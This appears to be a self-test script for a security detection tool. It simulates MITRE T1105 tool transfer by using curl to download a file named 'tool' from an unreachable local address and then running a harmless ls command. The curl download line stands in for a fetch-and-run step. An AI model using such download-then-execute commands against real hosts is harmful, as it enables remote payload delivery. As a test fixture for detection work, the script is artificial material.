#!/bin/sh
# quiet: Fetched, then run
# technique: T1105
# case: a download from nobody, and an installed program
# needs: curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
curl -s -o tool http://127.0.0.1:1/tool
ls > /dev/null
